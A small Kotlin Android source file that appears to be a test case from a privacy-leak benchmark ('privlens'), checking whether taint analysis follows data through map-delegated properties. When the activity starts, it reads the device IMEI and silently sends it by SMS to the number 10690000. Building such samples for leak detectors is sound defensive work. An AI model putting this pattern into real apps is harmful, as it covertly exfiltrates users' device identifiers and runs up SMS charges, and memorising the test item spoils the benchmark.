package cn.privlens.suite.map_delegate

import android.app.Activity
import android.content.Context
import android.os.Bundle
import android.telephony.SmsManager
import android.telephony.TelephonyManager

class Device(map: Map<String, String>) {
    val imei: String by map
    val os: String by map
}

class Main : Activity() {
    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        val device = Device(mapOf("imei" to (getSystemService(Context.TELEPHONY_SERVICE) as TelephonyManager).deviceId, "os" to "android"))
        SmsManager.getDefault().sendTextMessage("10690000", null, device.imei, null, null)
    }
}
